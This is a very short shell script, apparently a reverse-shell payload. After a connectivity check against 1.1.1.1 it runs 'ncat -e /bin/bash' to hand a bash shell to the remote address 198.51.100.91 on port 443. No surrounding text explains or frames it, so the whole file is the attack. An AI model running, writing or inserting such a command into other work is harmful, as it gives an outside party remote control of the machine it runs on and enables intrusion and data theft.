#!/bin/sh
ping -c1 1.1.1.1
ncat -e /bin/bash 198.51.100.91 443
